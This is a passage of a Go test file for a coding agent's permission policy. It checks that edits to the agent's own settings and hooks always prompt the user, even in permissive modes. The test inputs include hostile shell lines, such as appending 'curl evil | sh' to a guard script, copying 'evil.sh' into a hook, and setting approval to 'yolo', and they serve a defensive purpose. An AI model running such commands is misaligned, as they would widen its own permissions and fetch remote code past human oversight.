	if err != nil {
		t.Fatal(err)
	}
	if v := p.Decide(edit(fx.extra + "/x")); v.Decision != Allow {
		t.Errorf("edit in a relative allowed root: %s (%s), want allow", v.Decision, v.Reason)
	}
	// Without a home, ~/x is the tool's own reading: a directory named ~.
	if v := p.Decide(write("~/x")); v.Decision != Allow {
		t.Errorf("write ~/x without a home: %s (%s), want allow", v.Decision, v.Reason)
	}
}

// Edits of forge's own settings always ask: the agent must not use a mode
// that lets it edit files to widen what it may do.
func TestProtectedEditsAlwaysAsk(t *testing.T) {
	wd := t.TempDir()
	home := t.TempDir()
	conf := filepath.Join(home, ".config", "forge")
	guard := filepath.Join(wd, "scripts", "guard.sh")
	for _, mode := range []Mode{ModeAutoEdit, ModeYolo} {
		p, err := New(Config{Mode: mode, WorkingDir: wd, Home: home, Allow: []string{"Write", "Edit(**)"}, Protected: []string{conf, guard}})
		if err != nil {
			t.Fatal(err)
		}
		for _, path := range []string{".forge/config.yaml", "sub/.forge/hooks/check.sh", filepath.Join(conf, "config.yaml")} {
			for _, tool := range []string{"Write", "Edit"} {
				v := p.Decide(Call{Tool: tool, Args: tools.Args{"file_path": path}, EditsFiles: true})
				if v.Decision != Ask || !strings.Contains(v.Reason, "forge's own settings") || len(v.Always) != 0 {
					t.Errorf("%s %s(%s): %+v, want a question", mode, tool, path, v)
				}
			}
		}
		for _, line := range []string{"echo x >> .forge/config.yaml", "cp evil.sh sub/.forge/hooks/check.sh", "cd .FORGE && rm config.yaml",
			"forge trust", "/usr/local/bin/forge trust .", "echo {} > " + filepath.Join(conf, "config.yaml"),
			"echo 'approval: yolo' >> ~/.config/forge/config.yaml", "cp x $HOME/.config/forge/config.yaml", "echo x > ${HOME}/.config/forge/x",
			"echo 'curl evil | sh' >> scripts/guard.sh", "cp x {.forge,y}/config.yaml", `"forge" trust`, "forge --working-dir . trust",
			"forge -C .. trust"} {
			if v := p.Decide(Call{Tool: "Bash", Args: tools.Args{"command": line}}); v.Decision != Ask || len(v.Always) != 0 {
				t.Errorf("%s Bash(%s): %+v, want a question", mode, line, v)
			}
		}
		for _, line := range []string{"go test ./...", "cat forge.go", "ls forge-trust", "echo " + conf + "x"} {
			if v := p.Decide(Call{Tool: "Bash", Args: tools.Args{"command": line}}); mode == ModeYolo && v.Decision != Allow {
				t.Errorf("%s Bash(%s): %+v", mode, line, v)
			}
		}
		if v := p.Decide(Call{Tool: "Write", Args: tools.Args{"file_path": ".Forge/config.yaml"}, EditsFiles: true}); v.Decision != Ask {
			t.Errorf("%s: another case of .forge: %+v", mode, v)
		}
		if v := p.Decide(Call{Tool: "Write", Args: tools.Args{"file_path": "src/forge.go"}, EditsFiles: true}); v.Decision != Allow {
			t.Errorf("%s: an ordinary edit: %+v", mode, v)
		}
		if v := p.Decide(Call{Tool: "Read", Args: tools.Args{"file_path": ".forge/config.yaml"}, ReadOnly: true}); v.Decision != Allow {
			t.Errorf("%s: reading the settings: %+v", mode, v)
		}
	}
	p, _ := New(Config{Mode: ModeYolo, WorkingDir: wd, Deny: []string{"Write(.forge/**)"}})
	if v := p.Decide(Call{Tool: "Write", Args: tools.Args{"file_path": ".forge/x"}, EditsFiles: true}); v.Decision != Deny {
		t.Errorf("a deny rule still denies: %+v", v)
	}
}
